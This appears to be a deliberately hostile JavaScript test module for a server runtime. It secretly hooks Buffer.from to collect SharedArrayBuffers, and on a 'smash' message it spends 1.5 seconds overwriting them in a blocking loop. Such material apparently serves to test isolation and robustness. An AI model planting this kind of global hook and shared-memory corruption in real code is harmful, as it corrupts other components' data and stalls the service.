// Keeps hold of the shared memory that it can come by, writes over it for a while when it is told, and lives on.
const pages = [];
const { from } = Buffer;
Buffer.from = (source, ...rest) => {
  if (source instanceof SharedArrayBuffer) pages.push(source);
  return from.call(Buffer, source, ...rest);
};

export default {
  message(client, message) {
    if (message.isBinary || message.text !== 'smash') return client.send('fine');
    const end = performance.now() + 1500;
    while (performance.now() < end) for (const page of pages) new Int32Array(page).fill(0x7fffff03, 16, 4096);
  },
};
